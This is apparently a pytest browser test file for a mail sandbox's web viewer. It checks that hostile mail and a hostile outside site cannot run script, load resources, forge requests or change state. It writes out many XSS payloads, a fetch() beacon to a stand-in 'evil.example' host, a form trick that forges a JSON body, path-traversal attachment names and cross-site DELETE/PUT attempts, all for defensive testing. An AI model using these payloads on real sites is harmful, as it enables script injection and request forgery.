# ruff: noqa: E501, RUF001 - attacks are long, and the page writes ranges with dashes
"""Hostile mail, hostile sites: neither runs anything, loads anything, learns anything, changes anything."""

from __future__ import annotations

import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING
from urllib.parse import quote, urlsplit

import pytest

from bridge.sandbox.store import Store
from tests.browser.conftest import CREW, DISPATCH

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.support.browser import Browser
    from tests.support.sandbox import SandboxProcess

# What an attack would leave behind where it can: in the page, in its title, in another window, at its own server.
_RUN = "parent.pwned=top.pwned=1;document.title='pwned';document.body.id='pwned';fetch('{evil}/ran')"
_HTML = """<!doctype html><html><head><base href="{evil}/"><title>innocent</title>
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="{evil}/style.css"><link rel="prefetch" href="{evil}/prefetch">
<link rel="preconnect" href="{evil}"><link rel="dns-prefetch" href="{evil}"><link rel="icon" href="{evil}/icon">
<style>@import url("{evil}/import.css"); body {{ background: url("{evil}/background") }}
@font-face {{ font-family: x; src: url("{evil}/font") }} p {{ font-family: x }}</style>
<script>{run}</script><script src="{evil}/script.js"></script><script src="/web/app.js" type="module"></script></head>
<body onload="{run}"><p id="shown">shown</p>
<img src="{evil}/img" onerror="{run}"><img src="x" onerror="{run}"><img srcset="{evil}/srcset 1x">
<svg onload="{run}" xmlns="http://www.w3.org/2000/svg"><script>{run}</script><image href="{evil}/svgimage"/>
<use href="{evil}/use#x"/><animate onbegin="{run}" attributeName="x"/><foreignObject><iframe src="{evil}/f"></iframe></foreignObject></svg>
<iframe src="javascript:{run}"></iframe><iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/video" poster="{evil}/poster" autoplay></video>
<audio src="{evil}/audio" autoplay></audio><picture><source srcset="{evil}/source"><img></picture>
<input autofocus onfocus="{run}"><details open ontoggle="{run}"></details><marquee onstart="{run}"></marquee>
<form id="form" action="{own}/expire" method="post" enctype="text/plain"><input name='{{"what":"tokens","x":"' value='"}}'>
<button id="submit">send</button></form><form action="{evil}/form"><button id="away" formtarget="_top">away</button></form>
<a id="top" href="{evil}/top" target="_top">top</a> <a id="blank" href="{evil}/blank" target="_blank" ping="{evil}/ping">blank</a>
<a id="self" href="{evil}/self">self</a> <a id="script" href="javascript:{run}">script</a> <a id="home" href="{own}/">home</a>
<a id="data" href="data:text/html,<script>{run}</script>" target="_top">data</a>
</body></html>"""
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
_MARKUP = "<script>document.title='pwned'</script><img src=x onerror=document.title='pwned'>"


class _Evil(ThreadingHTTPServer):
    """A site of somebody else's that notes what it is asked for; `page` is what it answers with."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.asked: list[str] = []
        self.page = "<title>evil</title>"

    @property
    def url(self) -> str:
        return f"http://evil.example:{self.server_address[1]}"


class _Handler(BaseHTTPRequestHandler):
    server: _Evil

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        content = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_POST = do_GET  # noqa: N815 - the library's name

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the library's name
        """Say nothing."""


@pytest.fixture
def evil() -> Iterator[_Evil]:
    with _Evil() as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def _hostile(evil: str, own: str) -> bytes:
    run = _RUN.format(evil=evil)
    html, svg = _HTML.format(evil=evil, own=own, run=run), _SVG.format(run=run)
    return (
        f'From: "{_MARKUP.replace(chr(34), "")}" <x@y.example>\r\nTo: {_MARKUP}\r\nSubject: {_MARKUP}\r\nX-Evil: {_MARKUP}\r\n'
        f"Message-ID: <{_MARKUP}@x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n"
        f"--m\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n"
        f"--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{_MARKUP}\r\n"
        f"--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--a--\r\n"
        f'--m\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename="{_MARKUP}.svg"\r\n\r\n{svg}\r\n'
        f'--m\r\nContent-Type: text/html; name="../../x"\r\nContent-Disposition: attachment; filename="../../page.html"\r\n\r\n'
        f"<script>{run}</script>\r\n--m--\r\n"
    ).encode()


@contextmanager
def _unharmed(sandbox: SandboxProcess, browser: Browser, evil: _Evil, url: str) -> Iterator[None]:
    """Nothing ran, nothing outside was asked for, nothing changed, and the page is where it was."""
    before = (sandbox.admin("/state"), browser.windows())
    browser.requests()
    yield
    time.sleep(0.7)  # for what must not happen there is nothing to wait for
    browser.switch_frame(None)
    asked = [one for one in browser.requests() if not one.startswith((url + "/", "data:", "about:", "blob:"))]
    # What the policy stops is announced by the browser and never sent: the other side tells what was.
    assert evil.asked == [], asked
    assert urlsplit(browser.run("return location.href")).netloc == urlsplit(url).netloc
    assert browser.run(
        "return [typeof pwned, document.title.includes('pwned'), !!document.querySelector('#pwned')]"
    ) == [
        "undefined",
        False,
        False,
    ]
    assert (sandbox.admin("/state"), browser.windows()) == before


def _open(browser: Browser, url: str, sandbox: SandboxProcess, mime: bytes) -> str:
    sandbox.deliver(DISPATCH, mime)
    item = sandbox.mails(DISPATCH)[-1]["item_id"]
    path = f"/mailboxes/{quote(DISPATCH)}/folders/inbox/mails/{quote(item, safe='')}"
    browser.open(f"{url}/#/mail/{quote(DISPATCH)}/inbox/1/{quote(item, safe='')}")
    browser.wait(".letter h2")
    return path


def test_hostile_headers_names_and_texts_are_texts(
    sandbox: SandboxProcess, browser: Browser, url: str, evil: _Evil
) -> None:
    _open(browser, url, sandbox, _hostile(evil.url, url))
    with _unharmed(sandbox, browser, evil, url):
        assert _MARKUP in browser.wait(".letter h2")
        assert _MARKUP in browser.wait(".mails a .subject")
        assert browser.wait("pre.text").strip() == _MARKUP
        assert "<script>" in browser.wait(".attachments")
        for button in (3, 4):
            browser.click(f".forms button:nth-child({button})")
            browser.wait(".body", text=_MARKUP)
        assert browser.run("return document.querySelectorAll('main script, main img, main svg').length") == 0
    assert browser.complaints() == []


def test_hostile_html_runs_nothing_and_loads_nothing(
    sandbox: SandboxProcess, browser: Browser, url: str, evil: _Evil
) -> None:
    _open(browser, url, sandbox, _hostile(evil.url, url))
    with _unharmed(sandbox, browser, evil, url):
        browser.click(".forms button:nth-child(2)")
        with browser.in_frame("iframe"):
            assert browser.wait("#shown") == "shown"
            assert browser.run("return [document.title, document.body.id, self.origin]") == ["innocent", "", "null"]


@pytest.mark.parametrize("target", ["submit", "away", "top", "blank", "self", "script", "home", "data"])
def test_clicks_in_hostile_html_lead_nowhere(
    sandbox: SandboxProcess, browser: Browser, url: str, evil: _Evil, target: str
) -> None:
    _open(browser, url, sandbox, _hostile(evil.url, url))
    browser.click(".forms button:nth-child(2)")
    with _unharmed(sandbox, browser, evil, url):
        browser.switch_frame(browser.element("iframe"))
        browser.wait("#shown")
        browser.click(f"#{target}")
        browser.switch_frame(None)
    assert browser.texts(".letter h2") == [_MARKUP]


def test_hostile_html_that_is_opened_by_itself_is_as_harmless(
    sandbox: SandboxProcess, browser: Browser, url: str, evil: _Evil
) -> None:
    path = _open(browser, url, sandbox, _hostile(evil.url, url))
    with _unharmed(sandbox, browser, evil, url):
        browser.open(f"{url}{path}/html")
        assert browser.wait("#shown") == "shown"
        assert browser.run("return [document.title, document.body.id, self.origin]") == ["innocent", "", "null"]


@pytest.mark.parametrize("number", [1, 2])
def test_a_hostile_attachment_is_saved_and_never_shown(
    sandbox: SandboxProcess, browser: Browser, url: str, evil: _Evil, number: int
) -> None:
    path = _open(browser, url, sandbox, _hostile(evil.url, url))
    with _unharmed(sandbox, browser, evil, url):
        before = set(browser.downloads.iterdir())
        browser.click(f".attachments li:nth-child({number}) a")
        browser.until(lambda: set(browser.downloads.iterdir()) - before or None, "the file")
        browser.run("location.href = arguments[0]", f"{path}/attachments/{number}")
    assert browser.wait(".letter h2") == _MARKUP
    assert all(one.parent == browser.downloads for one in browser.downloads.iterdir())


def test_hostile_markup_cannot_get_into_the_page_even_if_the_page_tried(browser: Browser, url: str) -> None:
    browser.open(f"{url}/")
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.createElement('iframe').srcdoc = '<b>x</b>'",
        "document.createElement('script').text = '1'",
    ):
        assert browser.run(f"try {{ {attempt}; return 'done' }} catch (error) {{ return error.name }}") == "TypeError"
    assert "unsafe" not in browser.run("return fetch('/').then((a) => a.headers.get('Content-Security-Policy'))")


def test_a_site_of_somebody_else_neither_reads_nor_changes_anything(
    sandbox: SandboxProcess, browser: Browser, url: str, evil: _Evil
) -> None:
    before = sandbox.admin("/state")
    evil.page = f"""<!doctype html><title>evil</title><script>
      const tries = [
        fetch("{url}/mailboxes"), fetch("{url}/faults", {{method: "DELETE", mode: "no-cors"}}),
        fetch("{url}/expire", {{method: "POST", mode: "no-cors", body: '{{"what":"tokens"}}'}}),
        fetch("{url}/mailboxes/{CREW}/mails", {{method: "POST", mode: "no-cors", body: '{{"from":"a@b.c"}}'}}),
        fetch("{url}/faults", {{method: "PUT", headers: {{"Content-Type": "application/json"}}, body: "[]"}}),
        new Promise((done, fail) => {{ const one = new Image(); one.onload = done; one.onerror = fail; one.src = "{url}/web/icon.svg"; }}),
        new Promise((done, fail) => {{ const one = document.createElement("script"); one.onload = done; one.onerror = fail;
          one.src = "{url}/web/dom.js"; document.head.append(one); }}),
      ];
      window.outcome = Promise.allSettled(tries).then((all) => all.map((one) => one.value?.type ?? one.status));
    </script><iframe src="{url}/"></iframe><form id=f method=post enctype=text/plain action="{url}/expire">
    <input name='{{"what":"tokens","x":"' value='"}}'></form>"""
    browser.open(evil.url + "/")
    outcome = browser.run("return outcome")
    with browser.in_frame("iframe"):
        assert browser.texts("#views") == []
    browser.run("document.getElementById('f').submit()")
    browser.wait("body", text="cross-site requests are refused")

    assert set(outcome) <= {"rejected", "opaque"}
    assert "fulfilled" not in outcome
    assert sandbox.admin("/state") == before


def test_a_name_that_was_made_to_mean_this_machine_is_refused(
    sandbox: SandboxProcess, browser: Browser, url: str
) -> None:
    browser.open(f"http://evil.example:{urlsplit(url).port}/")

    assert "cross-site requests are refused" in browser.wait("body")
    browser.open(f"http://localhost:{urlsplit(url).port}/")
    browser.wait("#live", text="live")


def test_ten_thousand_mails_in_a_folder_are_shown_page_by_page(
    sandbox: SandboxProcess, browser: Browser, url: str
) -> None:
    sandbox.stop()
    store = Store(sandbox.directory / "store.sqlite")
    with store.writing():
        for number in range(10_000):
            store.deliver(CREW, f"From: x@y.example\r\nSubject: mail {number:05}\r\n\r\nbody\r\n".encode())
    store.close()
    sandbox.start()

    began = time.monotonic()
    browser.open(f"{url}/#/mail/{quote(CREW)}/inbox/1")
    browser.wait(".range", text="1–50 of 10,000")
    browser.wait(".mails a", text="mail 09999")
    browser.click(".pager a:last-child")
    browser.wait(".range", text="9,951–10,000 of 10,000")
    browser.wait(".mails a", text="mail 00000")
    browser.click(".mails li:last-child a")
    assert browser.wait(".letter h2", text="mail 00000")
    seconds = time.monotonic() - began

    assert browser.run("return document.querySelectorAll('.mails li').length") == 50
    assert seconds < 10


def test_a_mail_of_many_parts_and_long_lines_stays_within_the_page(
    sandbox: SandboxProcess, browser: Browser, url: str
) -> None:
    parts = b"".join(
        b"--m\r\nContent-Disposition: attachment; filename=" + b"n" * 5000 + b"%d\r\n\r\nx\r\n" % number
        for number in range(1500)
    )
    mime = (
        b"Subject: " + b"s" * 20_000 + b"\r\nFrom: " + b"f" * 5000 + b"@x.example\r\n"
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\n"
        + b"t" * 2_000_000
        + b"\r\n"
        + parts
        + b"--m--\r\n"
    )
    _open(browser, url, sandbox, mime)

    browser.wait(".attachments li.note", text="and 1000 more")
    browser.wait(".body .note", text="There is more of it")
    assert browser.run("return document.documentElement.scrollWidth <= innerWidth")
